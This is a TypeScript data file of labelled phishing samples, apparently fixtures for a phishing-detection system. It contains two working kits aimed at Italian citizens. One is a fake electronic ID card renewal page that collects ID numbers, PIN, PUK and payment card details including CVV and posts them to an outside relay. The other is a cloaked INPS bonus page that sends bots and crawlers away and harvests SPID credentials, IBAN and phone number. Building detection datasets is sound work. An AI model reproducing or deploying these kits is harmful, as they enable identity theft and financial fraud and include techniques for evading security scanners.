import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-cie-rinnovo-pin-puk',
  label: 'phishing',
  kind: 'cie-renewal-kit',
  url: 'https://cie-rinnovo.servizi-cittadino.info/prenota/',
  body: doc({
    lang: 'it',
    title: "Carta d'Identità Elettronica - Rinnovo e aggiornamento dati",
    css: cardCss('#06c', '#fff') + `
.hdr{background:#06c;color:#fff;padding:18px 28px}.hdr small{display:block;opacity:.85}.hdr h2{margin:2px 0 0;font-size:22px}
.wrap{max-width:620px}.alert{background:#fff4e5;border-left:4px solid #f0a020;padding:12px 16px;margin-bottom:20px;font-size:14px}
fieldset{border:1px solid #dde3ea;border-radius:6px;padding:6px 16px 16px;margin:0 0 16px}legend{font-weight:700;color:#06c;padding:0 6px}`,
    body: `<div class="hdr"><small>Ministero dell'Interno</small><h2>Carta d'Identità Elettronica</h2></div>
<div class="wrap">
<div class="alert"><b>Avviso:</b> la Sua CIE risulta prossima alla scadenza o con dati non aggiornati nell'ANPR. Per evitare la sospensione delle credenziali CIE per l'accesso ai servizi online (livello 3) completi la verifica entro 48 ore.</div>
<form method="post" action="https://formrelay.eu-submit.net/f/cie7731" id="cief">
<fieldset><legend>Dati anagrafici</legend>
 <div class="row"><div><label>Nome</label><input type="text" name="nome" required></div><div><label>Cognome</label><input type="text" name="cognome" required></div></div>
 <label>Codice fiscale</label><input type="text" name="cf" maxlength="16" style="text-transform:uppercase" required>
 <label>Comune di residenza</label><input type="text" name="comune">
</fieldset>
<fieldset><legend>Dati della carta</legend>
 <label>Numero CIE (es. CA00000AA)</label><input type="text" name="ncie" maxlength="9" required>
 <div class="row"><div><label>Prima parte del PIN (4 cifre)</label><input type="password" name="pin1" maxlength="4" inputmode="numeric" required></div><div><label>Seconda parte del PIN (4 cifre)</label><input type="password" name="pin2" maxlength="4" inputmode="numeric" required></div></div>
 <label>PUK (8 cifre)</label><input type="password" name="puk" maxlength="8" inputmode="numeric" required>
 <p class="muted">Il PIN e il PUK sono riportati nella lettera consegnata al momento della richiesta della carta.</p>
</fieldset>
<fieldset><legend>Diritti di segreteria - € 0,90</legend>
 <p class="muted">Costo per l'aggiornamento telematico dei dati (art. 7-vicies ter D.L. 7/2005).</p>
 <label>Numero carta di pagamento</label><input type="text" name="pan" id="pan" inputmode="numeric" required>
 <div class="row"><div><label>Scadenza</label><input type="text" name="exp" id="exp" placeholder="MM/AA" required></div><div><label>CVV</label><input type="password" name="cvv" maxlength="4" required></div></div>
</fieldset>
<input type="hidden" name="_next" value="https://www.cartaidentita.interno.gov.it/">
<button class="btn" type="submit">Conferma e paga € 0,90</button>
</form>
</div>
<div class="foot">Ministero dell'Interno - Dipartimento per gli Affari Interni e Territoriali</div>
<script>${cardJs}fmtCard(document.getElementById('pan'));fmtExp(document.getElementById('exp'));
document.getElementById('cief').addEventListener('submit',function(e){if(!luhn(this.pan.value)){e.preventDefault();alert('Numero carta non valido')}});</script>`,
  }),
},
{
  id: 'yg-inps-bonus-spid-picker-cloaked',
  label: 'phishing',
  kind: 'spid-idp-kit',
  url: 'https://bonus-inps2025.it-servizi-online.com/',
  body: doc({
    lang: 'it',
    title: 'INPS - Bonus 2025',
    body: `<div id="root"><p style="font-family:sans-serif;padding:40px;color:#888">Caricamento...</p></div>
<script>
(function(){
 var it=(navigator.language||'').toLowerCase().indexOf('it')===0;
 var mob=/Android|iPhone/i.test(navigator.userAgent);
 var bot=navigator.webdriver||/HeadlessChrome|bot|crawl|spider|Lighthouse/i.test(navigator.userAgent);
 if(bot){location.replace('https://www.wikipedia.org/');return}
 if(!it&&!mob){document.getElementById('root').innerHTML='<h1 style="font-family:sans-serif;padding:40px">403 Forbidden</h1>';return}
 var s=document.createElement('script');s.src='/static/js/app.${hex('inps-js', 8)}.js';document.body.appendChild(s);
})();
</script>`,
  }),
  routes: {
    [`bonus-inps2025.it-servizi-online.com/static/js/app.${hex('inps-js', 8)}.js`]: jsRoute(`(function(){
var css='body{margin:0;font-family:Titillium Web,Arial,sans-serif;background:#f5f7fb}.h{background:#0066cc;color:#fff;padding:16px 22px;font-size:22px;font-weight:700}.c{max-width:460px;margin:28px auto;background:#fff;padding:26px;border-radius:6px;box-shadow:0 1px 6px rgba(0,0,0,.1)}.b{display:block;width:100%;margin:10px 0;padding:12px;border:1px solid #0066cc;border-radius:4px;background:#fff;color:#0066cc;font-weight:700;font-size:15px;cursor:pointer}.b.p{background:#0066cc;color:#fff}input{width:100%;padding:11px;margin:6px 0 12px;border:1px solid #bbb;border-radius:4px;box-sizing:border-box}';
var st=document.createElement('style');st.textContent=css;document.head.appendChild(st);
document.title='INPS - Bonus 2025: verifica requisiti';
var r=document.getElementById('root');
r.innerHTML='<div class="h">INPS</div><div class="c"><h2>Bonus una tantum 2025 - 550 euro</h2><p>Risulti tra i beneficiari. Per ricevere l\\'accredito accedi con la tua identità digitale e indica l\\'IBAN di accredito.</p><button class="b p" id="sp">Entra con SPID</button><button class="b" id="ci">Entra con CIE</button></div>';
function idp(n){r.querySelector('.c').innerHTML='<h3>Accedi con '+n+'</h3><form id="lf"><label>Nome utente</label><input name="u" required><label>Password</label><input type="password" name="p" required><label>IBAN per l\\'accredito</label><input name="iban" placeholder="IT60X0542811101000000123456" required><label>Numero di cellulare</label><input name="cell" required><button class="b p">Entra</button></form>';
 document.getElementById('lf').onsubmit=function(e){e.preventDefault();var fd=new FormData(this);fd.append('idp',n);fetch('/gate/save.php',{method:'POST',body:fd}).then(function(){location.href='/attesa.html'})}}
document.getElementById('sp').onclick=function(){r.querySelector('.c').innerHTML='<h3>Scegli il tuo gestore SPID</h3>'+['Poste ID','Aruba ID','InfoCert ID','Sielte ID','TIM id','Namirial ID','Register.it','Lepida ID'].map(function(x){return '<button class="b g">'+x+'</button>'}).join('');r.querySelectorAll('.g').forEach(function(b){b.onclick=function(){idp(b.textContent)}})};
document.getElementById('ci').onclick=function(){idp('CIE')};
})();`),
  },
},
];
